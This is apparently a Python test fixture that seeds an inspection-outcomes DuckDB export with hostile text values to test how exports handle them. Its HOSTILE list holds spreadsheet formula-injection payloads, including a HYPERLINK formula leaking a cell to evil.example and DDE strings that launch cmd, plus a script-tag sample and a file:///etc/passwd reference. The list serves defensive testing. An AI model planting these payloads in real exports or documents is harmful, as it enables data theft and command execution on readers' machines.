"""A published file of made records, some of whose texts are hostile, and views of any rows one likes."""

from __future__ import annotations

from collections.abc import Sequence
from dataclasses import replace
from datetime import date
from pathlib import Path
from typing import Any

import duckdb

from flows.export.views import View, views_of
from tests.warehouse import made
from tests.warehouse.made import at, held
from transform.records import Finding, FindingKind
from transform.vocabulary import Area, Grade
from warehouse.publish import publish
from warehouse.runs import start_run
from warehouse.store import load

# What a report, a press release or a name could hold to change something else than its own cell.
HOSTILE = (
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+44 20 7946 0000",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "\u200b\ufeff=1+1",
    "\xa0=1+1",
    "＝1+1",
    "'=1+1",
    "''quoted''",
    "<script>alert(1)</script>",
    'a "quoted", comma; and\r\na new line\n',
    "\u202eright to left\u202c and \u2066isolated\u2069",
    "bell \x07, null \x00, escape \x1b, delete \x7f, no character \uffff",
    "_x0041_ is not A, and _x000D_ is no line end",
    "http://evil.example/ file:///etc/passwd internal:Sheet1!A1",
    "",
    " ",
    "00123",
    "1e5",
    "TRUE",
    "2024-05-16",
    "NULL",
    "😀" * 10 + " é",
)


def build(folder: Path, days: float = 10) -> Path:
    """Build a published file so many days after the tests' first; the data do not depend on when."""
    con = made.working(folder / "warehouse.duckdb")
    findings = tuple(
        Finding(FindingKind.IMPROVEMENT, number, text, 2) for number, text in enumerate(HOSTILE, 1) if text
    )
    later = made.ilacs(date(2024, 5, 13), grades={Area.CARE_LEAVERS: Grade.INADEQUATE}, findings=findings)
    judgements = tuple(replace(one, quote=HOSTILE[0]) for one in later.judgements)
    later = replace(later, judgements=judgements, lead_inspectors=(HOSTILE[1], HOSTILE[14]))
    for day, run in enumerate(("run-1", "run-2")):
        start_run(con, run, "refresh", at(day))
    load(con, held("1", date(2021, 7, 1), made.sif(date(2017, 5, 10))), at(0))
    load(con, held("2", date(2024, 7, 1), later, days=1, run="run-2"), at(1))
    publish(con, folder / "inspection_outcomes.duckdb", at(days))
    con.close()
    return folder / "inspection_outcomes.duckdb"


def view_of(rows: Sequence[tuple[Any, ...]], **types: str) -> tuple[duckdb.DuckDBPyConnection, View]:
    """Return a database with one view, `rows`, of these columns and rows, in that order by its first column."""
    con = duckdb.connect()
    con.execute("SET TimeZone = 'UTC'")
    columns = ", ".join(f"{name} {kind}" for name, kind in {"number": "INTEGER", **types}.items())
    con.execute(f"CREATE TABLE held ({columns})")
    places = ", ".join("?" * (len(types) + 1))
    if rows:
        con.executemany(f"INSERT INTO held VALUES ({places})", [(number, *row) for number, row in enumerate(rows)])
    con.execute('CREATE VIEW "made" AS FROM held')
    (view,) = views_of(con)
    return con, view
